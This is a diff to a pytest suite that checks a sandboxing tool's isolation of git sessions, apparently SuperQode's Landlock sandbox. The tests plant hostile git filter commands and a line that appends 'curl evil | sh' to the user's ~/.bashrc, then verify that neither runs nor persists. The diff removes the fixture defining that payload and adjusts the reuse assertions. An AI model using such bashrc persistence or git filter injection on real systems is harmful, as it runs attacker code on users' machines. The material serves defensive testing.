@@ -33,23 +33,6 @@ pytestmark = pytest.mark.skipif(
     reason="this kernel has no Landlock: a session could write anywhere, there is no deputy",
 )
 
-FILES = {"app.py": "x = 1\n", "pkg/core.py": "def f():\n    return 1\n", "README.md": "r\n"}
-
-
-@pytest.fixture
-def world(make_repo, tmp_path, isolated_home):
-    repo = make_repo(FILES, name="user repo")
-    bashrc = isolated_home / ".bashrc"
-    bashrc.write_text("# the user's\n")
-    marker = tmp_path / "outside" / "pwned"
-    marker.parent.mkdir()
-    # SQ_DEMO_BASHRC: only live()'s demonstration sets it, so that showing the
-    # plant works does not touch the user's ~/.bashrc during the session (at
-    # the "Landlock only" level verification would rightly blame the session).
-    evil = (f"echo ran >> {shlex.quote(str(marker))}; "
-            f"echo 'curl evil | sh' >> \"${{SQ_DEMO_BASHRC:-{bashrc}}}\"")
-    return {"repo": repo, "marker": marker, "bashrc": bashrc, "evil": evil,
-            "home": isolated_home}
 
 
 def _home(home: Path) -> dict[str, str]:
@@ -125,10 +108,14 @@ def _attributes(rel: str = ".gitattributes") -> str:
 
 
 def _two_sessions(world: dict, plant, live_args: tuple[str, ...] | None,
-                  expect_tampered: bool, last=None) -> tuple[IsolatedSession, IsolatedSession, list]:
+                  expect_tampered: bool, last=None,
+                  expect_reuse: bool | None = None,
+                  users_drivers: bool = False) -> tuple[IsolatedSession, IsolatedSession, list]:
     """First session plants and is exercised and closed (``last``: planted just
     before the close); a second one follows (reused unless the first was
-    tampered with) and is exercised too."""
+    tampered with, or ``expect_reuse`` says otherwise) and is exercised too.
+    ``users_drivers``: the user's configuration holds the commands (the
+    session's own git may carry them; SuperQode's never)."""
     repo = world["repo"]
     before_repo, before_home = content_fingerprint(repo), _home(world["home"])
     events: list = []
@@ -149,11 +136,13 @@ def _two_sessions(world: dict, plant, live_args: tuple[str, ...] | None,
     assert len(pool.slots(repo)) == (0 if expect_tampered else 1)
     second = start(world)
     try:
-        assert second.reused == (not expect_tampered)
+        assert second.reused == (not expect_tampered if expect_reuse is None else expect_reuse)
         assert tree_state(second.sandbox) == tree_state(repo)
         assert second.changes_sync().empty
         cfg = (_common(second) / "config").read_text()
-        assert str(world["marker"]) not in cfg  # the next session's git dir is made afresh
+        if not users_drivers:  # the next session's git dir is made afresh
+            assert str(world["marker"]) not in cfg
+        assert str(world["marker"]) not in (second.private / "own-git" / "config").read_text()
         exercise(second)
     finally:
         second.close_sync()
@@ -248,8 +237,11 @@ def test_symlinks_at_the_index_and_the_git_file_are_never_written_through(world)
 
 
 def test_a_planted_redefinition_of_the_users_own_filter_is_not_used(world, make_repo):
-    """The user's filter (lfs-like) still applies to the user's files; the
-    session's redefinition of it in its private config does not."""
+    """The session's redefinition of the user's filter (lfs-like) in its
+    private config is not used; nor is the user's own driver: SuperQode's git
+    on a sandbox defines no driver (owngit.py), so the filtered file is hashed
+    as it is, and the next session's reuse proof (against the user's filtered
+    state) fails: a cold sandbox, the cost of running no driver."""
     repo = world["repo"]
     subprocess.run(["git", "config", "filter.rot.clean", "tr a-z n-za-m"], cwd=repo, check=True)
     subprocess.run(["git", "config", "filter.rot.smudge", "tr n-za-m a-z"], cwd=repo, check=True)
@@ -263,7 +255,7 @@ def test_a_planted_redefinition_of_the_users_own_filter_is_not_used(world, make_
         cmd = _config_value(f"sh -c {shlex.quote(world['evil'] + '; cat')}")
         return (f"cat >> {_common(s) / 'config'} <<'EOF'\n[filter \"rot\"]\n\tclean = {cmd}\nEOF\n"
                 "echo changed > app.py; echo edited again > k.sec")
-    _two_sessions(world, plant, ("add", "-A"), expect_tampered=False)
+    _two_sessions(world, plant, ("add", "-A"), expect_tampered=False, expect_reuse=False)
 
 
 def test_a_clean_session_still_parks_and_the_next_reuses_it(world):
